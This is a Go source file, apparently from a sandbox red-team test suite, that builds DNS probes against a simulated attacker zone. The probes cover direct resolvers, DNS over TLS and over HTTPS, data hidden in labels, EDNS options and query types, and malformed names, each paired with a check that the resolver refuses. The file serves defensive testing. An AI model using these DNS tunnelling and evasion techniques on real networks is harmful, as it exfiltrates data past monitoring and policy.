package redteam

import (
	"encoding/binary"
	"fmt"
	"net/netip"
	"slices"
	"strings"

	"github.com/miekg/dns"

	"github.com/custody-project/custody/netpolicy"
	"github.com/custody-project/custody/redteam/simnet"
)

// nameProbes are the probes of DNS.
type nameProbes struct{ *catalogue }

// all adds the probes of DNS: other resolvers, and the sandbox's resolver as a tunnel.
func (c nameProbes) all() {
	c.otherResolvers()
	c.tunnels()
	c.questions()
}

// otherResolvers adds DNS queries to resolvers other than the sandbox's.
func (c nameProbes) otherResolvers() {
	ask := func(proto string, port int, to func(Family) netip.Addr) func(Family) Probe {
		return func(v Family) Probe {
			t := &task{Do: "talk", Host: to(v).String(), Family: v.number(), Port: port, Proto: proto}
			t.Send = []piece{{Data: question(c.token()+"."+simnet.Attacker, dns.TypeA, proto == "tcp")}}
			return Probe{task: t}
		}
	}
	c.both("dns/other-resolver-udp", "query the attacker's resolver over UDP", DNSTunnel, ask("udp", 53, c.victim))
	c.both("dns/other-resolver-tcp", "query the attacker's resolver over TCP", DNSOverTCP, ask("tcp", 53, c.victim))
	c.both("dns/hosts-resolver", "query the host's resolver directly", DNSTunnel, ask("udp", 53, func(v Family) netip.Addr {
		return v.of(simnet.Resolver4.Addr(), simnet.Resolver6.Addr())
	}))
	c.both("dns/over-tls", "query the attacker's resolver over DNS over TLS", DoT, func(v Family) Probe {
		return Probe{task: &task{
			Do: "talk", Host: c.victim(v).String(), Family: v.number(), Port: 853, TLS: &tlsTask{SNI: "dns." + simnet.Attacker},
			Send: []piece{{Data: question(c.token()+"."+simnet.Attacker, dns.TypeA, true)}},
		}}
	})
	post := func(token string) []piece {
		q := question(token+"."+simnet.Attacker, dns.TypeA, false)
		return once(fmt.Sprintf("POST /dns-query HTTP/1.1\r\nHost: dns.%s\r\nContent-Type: application/dns-message\r\nContent-Length: %d\r\n\r\n%s",
			simnet.Attacker, len(q), q))
	}
	c.both("dns/over-https", "query the attacker's resolver over HTTPS, at its address", DoH, func(v Family) Probe {
		return Probe{task: &task{
			Do: "talk", Host: c.victim(v).String(), Family: v.number(), Port: 443, TLS: &tlsTask{SNI: "dns." + simnet.Attacker}, Send: post(c.token()),
		}}
	})
	token := c.token()
	c.add(Probe{
		ID: "dns/over-https-by-name", Title: "query the attacker's resolver over HTTPS, at its name", Bypass: DoH,
		task: &task{Do: "talk", Name: token + "." + simnet.Attacker, Port: 443, TLS: &tlsTask{SNI: "dns." + simnet.Attacker}, Send: post(token)},
	})
}

// tunnels adds queries that exfiltrate data through the sandbox's resolver.
func (c nameProbes) tunnels() {
	c.add(Probe{
		ID: "dns/resolve-first", Title: "resolve a name that the policy denies", Bypass: ResolveFirst,
		task: &task{Do: "talk", Name: c.token() + "." + simnet.Attacker, Port: 80, Send: once("GET / HTTP/1.1\r\n\r\n")},
	})
	c.ask("dns/tunnel-labels", "data in the labels of a name in the attacker's zone", DNSTunnel, "udp", func(token string) []byte {
		label := strings.Repeat("0123456789abcdef", 3) + "0123"
		return question(strings.Join([]string{token, label, label, label}, ".")+"."+simnet.Attacker, dns.TypeA, false)
	})
	c.ask("dns/tunnel-tcp", "data in the labels of a name in the attacker's zone, over TCP", DNSOverTCP, "tcp", func(token string) []byte {
		return question(token+"."+simnet.Attacker, dns.TypeTXT, true)
	})
	for _, qtype := range []uint16{dns.TypeTXT, dns.TypeNULL, dns.TypeANY, dns.TypeMX, dns.TypeSRV, dns.TypeCNAME, dns.TypeSVCB} {
		kind := dns.TypeToString[qtype]
		c.ask("dns/tunnel-"+strings.ToLower(kind), "query type "+kind+" for a name in the attacker's zone", DNSTunnel, "udp", func(token string) []byte {
			return question(token+"."+simnet.Attacker, qtype, false)
		})
	}
	c.ask("dns/unnamed-sibling", "a sibling of an allowed name", ResolveFirst, "udp", func(token string) []byte {
		return question(token+"."+simnet.Zone, dns.TypeA, false)
	})
	c.ask("dns/wildcard-txt", "query type TXT for a name below an allowed wildcard", DNSTunnel, "udp", func(token string) []byte {
		return question(token+"."+simnet.Wild, dns.TypeTXT, false)
	})
	token := c.token()
	var list []string
	for i := range 24 {
		list = append(list, fmt.Sprintf("%s-%s%02x.%s", token, strings.Repeat("9f3k7q", 7), i, simnet.Wild))
	}
	c.add(Probe{
		ID: "dns/wildcard-labels", Title: "data in labels below an allowed wildcard: the resolver does not forward it, and reports it", Bypass: DNSTunnel,
		task: &task{Do: "flood", Names: list}, check: onlySynthetic, proof: found("dns-tunnel", simnet.Wild),
	})
}

// questions adds queries that a resolver may misread.
func (c nameProbes) questions() {
	c.ask("dns/ech-gateway", "query type HTTPS, which carries ECH keys, for a name that the gateway serves", ECH, "udp", func(token string) []byte {
		return question("ech-"+token+"."+simnet.Rebind, dns.TypeHTTPS, false)
	}).proof = asked
	p := c.ask("dns/ech-direct", "query type HTTPS, which carries ECH keys, for a direct name", ECH, "udp", func(token string) []byte {
		return question("ech-"+token+"."+simnet.RebindDirect, dns.TypeHTTPS, false)
	})
	p.proof, p.allowed = asked, asks
	c.ask("dns/any-direct", "query type ANY for a direct name", DNSTunnel, "udp", func(token string) []byte {
		return question("public-"+token+"."+simnet.RebindDirect, dns.TypeANY, false)
	})
	for _, o := range []struct {
		id     string
		option dns.EDNS0
	}{
		{"client-subnet", &dns.EDNS0_SUBNET{Code: dns.EDNS0SUBNET, Family: 1, SourceNetmask: 32, Address: simnet.Attacker4.AsSlice()}},
		{"edns-option", &dns.EDNS0_LOCAL{Code: 65001, Data: []byte("data for the upstream server")}},
		{"edns-cookie", &dns.EDNS0_COOKIE{Code: dns.EDNS0COOKIE, Cookie: "6461746164617461"}},
	} {
		p := c.ask("dns/"+o.id, "data in an EDNS option of an allowed query", DNSTunnel, "udp", func(token string) []byte {
			return question("public-"+token+"."+simnet.RebindDirect, dns.TypeA, false, o.option)
		})
		p.allowed, p.check, p.proof = asks, nil, asked
	}
	c.ask("dns/two-questions", "two questions in one query, the first allowed", DNSTunnel, "udp", func(token string) []byte {
		m := message(simnet.Allowed, dns.TypeA)
		m.Question = append(m.Question, dns.Question{Name: token + "." + simnet.Attacker + ".", Qtype: dns.TypeA, Qclass: dns.ClassINET})
		return wire(m, false)
	}).proof = flawed("one question")
	c.ask("dns/update", "a dynamic update of the attacker's zone", DNSTunnel, "udp", func(token string) []byte {
		m := message(token+"."+simnet.Attacker, dns.TypeSOA)
		m.Opcode = dns.OpcodeUpdate
		return wire(m, false)
	}).proof = flawed("standard query")
	c.ask("dns/dot-in-label", "a dot inside a label, which makes a name look like one below an allowed wildcard", DNSTunnel, "udp", func(token string) []byte {
		return question(token+`\.wild.`+simnet.Zone, dns.TypeA, false)
	})
	c.ask("dns/zero-in-label", "an allowed name, a NUL and the attacker's zone in one name", DNSTunnel, "udp", func(token string) []byte {
		return question(token+"."+simnet.Wild+`\000.`+simnet.Attacker, dns.TypeA, false)
	})
	c.ask("dns/class", "a query of a class other than IN", DNSTunnel, "udp", func(token string) []byte {
		m := message(token+"."+simnet.Wild, dns.TypeA)
		m.Question[0].Qclass = dns.ClassCHAOS
		return wire(m, false)
	})
}

// optionData is the data in the options above, in the format of the network's resolver.
var optionData = []string{simnet.Attacker4.String(), "64617461"}

// ask adds a query to the sandbox's resolver, which must not answer it, and returns
// the probe.
func (c nameProbes) ask(id, title string, bypass Bypass, proto string, packet func(token string) []byte) *Probe {
	c.add(Probe{ID: id, Title: title, Bypass: bypass, check: noAnswer, task: &task{
		Do: "talk", Host: netpolicy.Gateway4.String(), Family: 4, Port: netpolicy.ResolverPort, Proto: proto, Send: []piece{{Data: packet(c.token())}},
	}})
	p := &c.list[len(c.list)-1]
	p.targets = nil // all queries go there
	return p
}

// message is a query for one name.
func message(name string, qtype uint16, options ...dns.EDNS0) *dns.Msg {
	m := new(dns.Msg).SetQuestion(dns.Fqdn(name), qtype)
	if len(options) > 0 {
		m.SetEdns0(1232, false)
		m.IsEdns0().Option = options
	}
	return m
}

func question(name string, qtype uint16, stream bool, options ...dns.EDNS0) []byte {
	return wire(message(name, qtype, options...), stream)
}

// wire packs a message, for a stream with its length before it (RFC 1035, section 4.2.2).
func wire(m *dns.Msg, stream bool) []byte {
	b, err := m.Pack()
	if err != nil {
		panic(err) // the suite's own names
	}
	if stream {
		return append(binary.BigEndian.AppendUint16(nil, uint16(len(b))), b...)
	}
	return b
}

// reply parses a DNS message, with or without the length of a stream before it.
func reply(b []byte) *dns.Msg {
	m := new(dns.Msg)
	if m.Unpack(b) == nil {
		return m
	}
	if len(b) > 2 && m.Unpack(b[2:]) == nil {
		return m
	}
	return nil
}

// noAnswer fails a response with answers.
func noAnswer(r report) string {
	if m := reply(r.Answer); m != nil && len(m.Answer) > 0 {
		return "the resolver answered: " + m.Answer[0].String()
	}
	return ""
}

// onlySynthetic fails a response with an address outside the sandbox.
func onlySynthetic(r report) string {
	i := slices.IndexFunc(r.Addrs, func(s string) bool {
		a, err := netip.ParseAddr(s)
		return err != nil || !netpolicy.Synthetic.Contains(a)
	})
	if i >= 0 {
		return "the resolver returned the address " + r.Addrs[i]
	}
	return ""
}
